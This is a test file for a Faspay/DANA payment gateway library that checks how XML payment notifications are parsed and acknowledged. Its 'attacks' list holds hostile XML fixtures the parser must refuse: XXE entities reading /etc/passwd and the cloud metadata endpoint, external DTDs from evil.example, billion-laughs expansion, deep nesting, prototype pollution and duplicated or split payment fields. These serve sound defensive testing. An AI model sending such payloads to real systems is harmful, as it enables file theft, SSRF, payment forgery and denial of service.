import { describe, expect, it } from 'vitest';
import { faspayDana } from '../src/index.ts';
import { xml } from '../src/xml/index.ts';
import { BILL_NO, clock, config, notificationOf, posting, receive, TRX_ID } from './merchant.ts';
import { BILL, created, open, statusOf } from './world.ts';

const gateway = faspayDana(config, {
  clock,
  fetch: () => Promise.reject(new Error('Nothing may be sent here.')),
  messageFormats: [xml],
});

const DECLARATION = '<?xml version="1.0" encoding="utf-8"?>\n';
const escape = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** The documented notification, laid out as in the documentation; `extra` stands behind its fields. */
function message(changes: Record<string, unknown> = {}, extra = ''): string {
  const fields = Object.entries(notificationOf(changes)).map(
    ([name, value]) => ` <${name}>${escape(String(value))}</${name}>`,
  );
  return `${DECLARATION}<faspay>\n${fields.join('\n')}${extra}\n</faspay>\n`;
}

const kindOf = async (text: string): Promise<string> => {
  const received = await receive(gateway, posting(text));
  return received.kind === 'refused' ? received.refusal : received.kind;
};

describe('a notification in XML', () => {
  it('is read as the same notification in JSON is', async () => {
    const [asXml, asJson] = await Promise.all([
      receive(gateway, posting(message())),
      receive(gateway, posting(notificationOf())),
    ]);
    if (asXml.kind !== 'notification' || asJson.kind !== 'notification') throw new Error('refused');
    expect(asXml.notification).toEqual(asJson.notification);
  });

  it.each([
    ['accepted', 200, '00'],
    ['unknown-payment', 200, '14'],
    ['mismatch', 200, '99'],
    ['retry-later', 500, '96'],
  ] as const)('that was %s is acknowledged in XML', async (verdict, status, code) => {
    const received = await receive(gateway, posting(message()));
    if (received.kind !== 'notification') throw new Error(received.kind);
    const { body, ...reply } = received.acknowledge(verdict);
    expect(reply).toEqual({ status, headers: { 'content-type': 'text/xml' } });
    expect(body).toMatch(
      new RegExp(
        `^<faspay><response>Payment Notification</response><trx_id>${TRX_ID}</trx_id><merchant_id>12345</merchant_id><bill_no>${BILL_NO}</bill_no>` +
          `<response_code>${code}</response_code><response_desc>[A-Za-z ]+</response_desc><response_date>2026-01-02 18:00:00</response_date></faspay>$`,
      ),
    );
  });

  it('leaves notifications in JSON answered in JSON', async () => {
    const received = await receive(gateway, posting(notificationOf()));
    if (received.kind !== 'notification') throw new Error(received.kind);
    expect(received.acknowledge('accepted').headers['content-type']).toBe('application/json');
  });

  it('is answered in XML when it is refused', async () => {
    const received = await receive(gateway, posting(message({ signature: 'a'.repeat(40) })));
    if (received.kind !== 'refused') throw new Error(received.kind);
    expect(received).toMatchObject({
      refusal: 'bad-signature',
      reply: { status: 403, headers: { 'content-type': 'text/xml' } },
    });
    expect(received.reply.body).toContain('<response_code>99</response_code>');
  });

  it.each([
    ['a bare ampersand in the merchant’s name', message().replace('Example Store', 'Roti & Kopi')],
    ['an escaped one', message({ merchant: 'Roti & Kopi' })],
    ['no declaration', message().slice(DECLARATION.length)],
    ['fields on one line', message().replaceAll('\n', '')],
    ['an empty field', message({ payment_reff: '' })],
    ['a field closed at once', message().replace('<payment_reff>57910067322</payment_reff>', '<payment_reff/>')],
    ['"null" for nothing', message({ payment_reff: 'null' })],
    ['CDATA', message().replace('Example Store', '<![CDATA[Roti & <Kopi>]]>')],
    ['fields nobody documented', message({}, '<items><item><id>1</id></item></items>')],
    ['attributes', message().replace('<faspay>', '<faspay version="1">')],
    ['a comment between fields', message({}, '<!-- Faspay -->')],
  ])('is believed with %s', async (_, text) => {
    expect(await kindOf(text)).toBe('notification');
  });

  it('of the documentation, whose secret is not known, is refused for its signature alone', async () => {
    const sample = message({
      trx_id: '8985310250011254',
      merchant_id: '31025',
      bill_no: '300134486',
      payment_reff: 'null',
      bill_total: '5000000',
      payment_channel_uid: '402',
      signature: '9ed18926fa88f83b469f3ae73ef71ef2a4835c03',
    });
    expect(await kindOf(sample)).toBe('bad-signature');
  });
});

const entity = (definition: string, use: string): string =>
  message().replace(DECLARATION, `${DECLARATION}<!DOCTYPE faspay [${definition}]>\n`).replace('Example Store', use);
const laughs = Array.from(
  { length: 10 },
  (_, at) => `<!ENTITY l${String(at + 1)} "${`&l${String(at)};`.repeat(10)}">`,
).join('');

const attacks: readonly (readonly [string, string, string?])[] = [
  ['a file as an entity', entity('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;')],
  ['an address as an entity', entity('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data">', '&x;')],
  ['a parameter entity', entity('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;', 'x')],
  ['a document type outside', message().replace(DECLARATION, '<!DOCTYPE faspay SYSTEM "http://evil.example/x.dtd">')],
  ['a billion laughs', entity(`<!ENTITY l0 "lol">${laughs}`, '&l10;')],
  ['quadratic growth', entity(`<!ENTITY x "${'x'.repeat(5_000)}">`, '&x;'.repeat(1_000))],
  [
    'an entity of its own',
    entity('<!ENTITY x "2">', 'x').replace('<payment_status_code>2', '<payment_status_code>&x;'),
  ],
  ['an entity nobody declared', message().replace('Example Store', '&nbsp;')],
  ['depth without end', `<faspay>${'<a>'.repeat(2_300)}${'</a>'.repeat(2_300)}</faspay>`],
  ['depth that never ends', '<a>'.repeat(5_400)],
  ['more than any notification', message({ merchant: 'x'.repeat(16_384) }), 'too-large'],
  ['two bill numbers', message({}, `<bill_no>${BILL_NO}</bill_no>`)],
  ['two statuses', message({}, '<payment_status_code>0</payment_status_code>')],
  ['a status in two pieces', message().replace('<payment_status_code>2', '<payment_status_code><!-- 0 -->2<!-- 0 -->')],
  ['a status around an element', message().replace('<payment_status_code>2', '<payment_status_code><b>2</b>')],
  ['a bill number split by a comment', message().replace(BILL_NO, `INV<!-- -->${BILL_NO.slice(3)}`)],
  ['the fields in an attribute', '<faspay bill_no="1" signature="x"/>'],
  ['fields outside the root', `${message()}<faspay/>`],
  ['another root', message().replaceAll('faspay>', 'Faspay>')],
  ['the root inside another', `<x>${message().slice(DECLARATION.length)}</x>`],
  ['fields in a namespace', message().replaceAll('bill_no>', 'x:bill_no>')],
  ['an element that is not closed', message().replace('</merchant>', '')],
  ['an end that is cut off', message().slice(0, -12)],
  ['markup behind it', `${message()}<br>`],
  [
    'a prototype',
    message({}, '<__proto__><signature>x</signature></__proto__>').replace(/<signature>[0-9a-f]+<\/signature>/, ''),
    'missing-credential',
  ],
  ['an HTML page', '<!doctype html><html><body>502</body></html>'],
  ['no field', '<faspay></faspay>'],
  ['nothing', '<'],
];

describe('an attack in XML', () => {
  it.each(attacks.map(([name, text, refusal = 'malformed']) => [name, text, refusal] as const))(
    'is refused: %s',
    async (_, text, refusal) => {
      expect(await kindOf(text)).toBe(refusal);
    },
  );

  it('is tried in enough ways', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(25);
  });
});

describe('the simulated Faspay in XML', () => {
  it('is paid, notified, acknowledged and found paid', async () => {
    const world = open({}, {}, { messageFormats: [xml] });
    world.faspay.register({ notificationUrl: 'https://shop.example/pay/faspay/notification', format: 'xml' });
    const payment = await created(world.gateway);
    await world.faspay.customer.pay(BILL);
    await world.simulator.idle();
    expect(world.notifications()).toMatchObject([{ status: 'paid' }]);
    expect(world.faspay.payment(BILL)?.deliveries).toMatchObject([{ verdict: 'acknowledged' }]);
    expect(await statusOf(world, payment)).toBe('paid');
    expect(await world.faspay.saveAndTest()).toMatchObject({ valid: true });
  });
});
